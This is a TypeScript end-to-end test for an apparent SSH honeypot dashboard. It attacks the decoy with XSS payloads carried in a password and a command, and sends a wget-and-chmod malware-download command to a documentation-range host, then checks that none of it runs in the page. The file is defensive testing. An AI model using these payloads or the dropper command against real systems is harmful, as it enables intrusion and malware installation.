// The real `npm start` stack (control plane, dashboard, self-enrolled host agent, local runtime) in
// Chromium: log in, change the password, deploy a decky from the UI, attack it with the real
// OpenSSH client using hostile values, and see the event arrive live and the attacker, session and
// credential on their pages, with nothing the attacker sent ever running in the page; the same client
// from two more addresses becomes one identity.
import { execFile } from 'node:child_process';
import { existsSync, mkdirSync, mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { promisify } from 'node:util';
import { chromium, type Browser, type Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { startStack, type Stack } from '../../scripts/stack';
import { ensureBuild } from './stack';
import { CHROMIUM, SCREENS_DIR } from './tour';

const ARGS = ['--no-sandbox', '--disable-gpu', '--disable-background-networking', '--disable-component-update', '--disable-sync', '--no-first-run', '--disable-quic', '--headless=new'];
const INITIAL = 'initial-admin-password-1';
const CHANGED = 'changed-admin-password-1';
const ROOT_PW = 'Tr0ub4dor&3x';
// OpenSSH refuses markup in user names, so the markup rides in the password and the command.
const HOSTILE_USER = 'oracle';
const HOSTILE_PW = '"><img src=x onerror=window.__pwned=1><script>window.__pwned=2</script>';
const HOSTILE_CMD = "echo '<svg onload=window.__pwned=3>'; uname -a";
const run = promisify(execFile);
const haveTools = existsSync(CHROMIUM) && existsSync('/usr/bin/sshpass') && existsSync('/usr/bin/ssh');

async function ssh(ip: string, port: number, user: string, password: string, cmd: string, bindAddress?: string) {
  const args = ['-p', password, 'ssh', ...(bindAddress ? ['-b', bindAddress] : []), '-p', String(port), '-o', 'StrictHostKeyChecking=no', '-o', 'UserKnownHostsFile=/dev/null', '-o', 'PreferredAuthentications=password', '-o', 'PubkeyAuthentication=no', '-o', 'NumberOfPasswordPrompts=1', '-o', 'ConnectTimeout=10', `${user}@${ip}`, cmd];
  return run('sshpass', args, { timeout: 30_000 }).catch((e: { stdout?: string; stderr?: string; code?: number }) => ({ stdout: e.stdout ?? '', stderr: e.stderr ?? '', code: e.code }));
}

describe.skipIf(!haveTools)('the real npm start stack in Chromium', () => {
  let stack: Stack;
  let browser: Browser;
  const dir = mkdtempSync(join(tmpdir(), 'decnet-real-stack-'));
  const problems: string[] = [];

  beforeAll(async () => {
    ensureBuild();
    stack = await startStack({
      dataDir: dir,
      port: 0,
      mtlsPort: 0,
      fleetIni: '[web-01]\nservices=http\n',
      env: { ...process.env, DECNET_ADMIN_PASSWORD: INITIAL, DECNET_DATA_DIR: dir, DECNET_IDENTITY_INTERVAL_MS: '500' },
    });
    await stack.fleetRunning(60_000);
    browser = await chromium.launch({ executablePath: CHROMIUM, args: ARGS });
  }, 180_000);
  afterAll(async () => {
    await browser?.close();
    await stack?.close();
    rmSync(dir, { recursive: true, force: true });
  });

  const shot = async (page: Page, name: string) => {
    mkdirSync(SCREENS_DIR, { recursive: true });
    await page.screenshot({ path: join(SCREENS_DIR, `real-${name}.png`), fullPage: true });
  };
  const nav = (page: Page, label: string) => page.getByRole('navigation', { name: 'Main' }).getByRole('link', { name: label }).click();

  it('deploys, gets attacked, and shows the attack live and on every page', async () => {
    const page = await browser.newPage({ viewport: { width: 1440, height: 900 } });
    page.on('dialog', (d) => {
      problems.push(`dialog: ${d.message()}`);
      void d.dismiss();
    });
    page.on('pageerror', (e) => problems.push(`page error: ${e.message}`));

    // Log in with the first-admin password, then the forced change.
    await page.goto(stack.cp.url);
    await page.getByLabel('Username', { exact: true }).fill('admin');
    await page.getByLabel('Password', { exact: true }).fill(INITIAL);
    await page.getByRole('button', { name: 'Sign in' }).click();
    await page.getByRole('heading', { name: 'Choose a new password' }).waitFor();
    await page.getByLabel('Current password', { exact: true }).fill(INITIAL);
    await page.getByLabel('New password', { exact: true }).fill(CHANGED);
    await page.getByLabel('Confirm new password', { exact: true }).fill(CHANGED);
    await page.getByRole('button', { name: 'Change password' }).click();
    await page.getByRole('heading', { name: 'Overview' }).waitFor();

    // Deploy an SSH decky from the INI tab and watch it come up.
    await nav(page, 'Fleet');
    await page.getByRole('button', { name: 'Deploy deckies' }).click();
    const dlg = page.getByRole('dialog');
    await dlg.getByRole('tab', { name: 'INI configuration' }).click();
    await dlg.locator('textarea.ini-input').fill(`[e2e-ssh]\nservices=ssh\n\n[e2e-ssh.ssh]\npassword=${ROOT_PW}\nauth_failure_delay_ms=0\n`);
    await dlg.getByRole('button', { name: 'Deploy', exact: true }).click();
    await dlg.getByText(/^Finished:/).waitFor({ timeout: 60_000 });
    await shot(page, 'deploy-done');
    await page.keyboard.press('Escape');

    let endpoint: { host: string; port: number } | undefined;
    for (let i = 0; i < 100 && !endpoint; i++) {
      endpoint = stack.agent!.status().desiredState?.endpoints?.find((e) => e.decky === 'e2e-ssh' && e.service === 'ssh');
      if (!endpoint) await new Promise((r) => setTimeout(r, 200));
    }
    expect(endpoint).toBeDefined();

    // Watch the live feed while the real OpenSSH client attacks: a hostile failed login, then root.
    await nav(page, 'Live events');
    await page.getByRole('heading', { name: 'Live events' }).waitFor();
    const bad = await ssh(endpoint!.host, endpoint!.port, HOSTILE_USER, HOSTILE_PW, 'id');
    expect(String(bad.stderr)).toContain('Permission denied');
    const good = await ssh(endpoint!.host, endpoint!.port, 'root', ROOT_PW, HOSTILE_CMD);
    expect(String(good.stdout)).toMatch(/<svg onload=window.__pwned=3>\nLinux /);
    await page.locator('table tbody tr', { hasText: 'e2e-ssh' }).filter({ hasText: 'command' }).first().waitFor({ timeout: 30_000 });
    await page.locator('table tbody tr', { hasText: 'e2e-ssh' }).filter({ hasText: 'auth_attempt' }).first().waitFor({ timeout: 30_000 });
    await shot(page, 'live-events');

    // The attacker, its session with the command transcript, and the credentials.
    await nav(page, 'Attackers');
    await page.getByRole('link', { name: '127.0.0.1', exact: true }).click();
    await page.getByRole('tab', { name: /Sessions/ }).click();
    await page.getByText('uname -a', { exact: false }).first().waitFor({ timeout: 15_000 });
    await shot(page, 'attacker-sessions');
    await page.getByRole('tab', { name: /Credentials/ }).click();
    await page.getByText(ROOT_PW).first().waitFor();
    // Long secrets are shown truncated (with an ellipsis), as text.
    await page.getByText(HOSTILE_PW.slice(0, 36)).first().waitFor();
    await shot(page, 'attacker-credentials');
    await nav(page, 'Credentials');
    await page.getByText(HOSTILE_PW.slice(0, 36)).first().waitFor();
    await page.getByText(HOSTILE_USER).first().waitFor();
    await shot(page, 'credentials');

    // The same OpenSSH client and commands from two more source addresses: one identity (issue 15).
    for (const src of ['127.0.0.2', '127.0.0.3']) {
      const r = await ssh(endpoint!.host, endpoint!.port, 'root', ROOT_PW, 'wget http://198.51.100.77/bins/x86 -O /tmp/.x; chmod +x /tmp/.x', src);
      expect(String(r.stdout) + String(r.stderr)).not.toContain('Permission denied');
    }
    await nav(page, 'Identities');
    for (let i = 0; i < 60 && !(await page.getByRole('link', { name: /^[0-9a-f]{8}$/ }).count()); i++) {
      await page.waitForTimeout(500);
      await page.reload();
    }
    await page.getByRole('link', { name: /^[0-9a-f]{8}$/ }).first().click();
    await page.getByRole('link', { name: '127.0.0.2', exact: true }).waitFor();
    await page.getByRole('link', { name: '127.0.0.3', exact: true }).waitFor();
    await page.getByRole('tab', { name: /Evidence/ }).click();
    await page.getByText(/strong · infrastructure/).first().waitFor();
    await shot(page, 'identity');

    // Nothing the attacker sent ran or was parsed as markup.
    expect(await page.evaluate(() => (window as { __pwned?: unknown }).__pwned)).toBeUndefined();
    expect(await page.locator('img[src="x"], svg[onload]').count()).toBe(0);
    expect(problems).toEqual([]);
  }, 240_000);
});
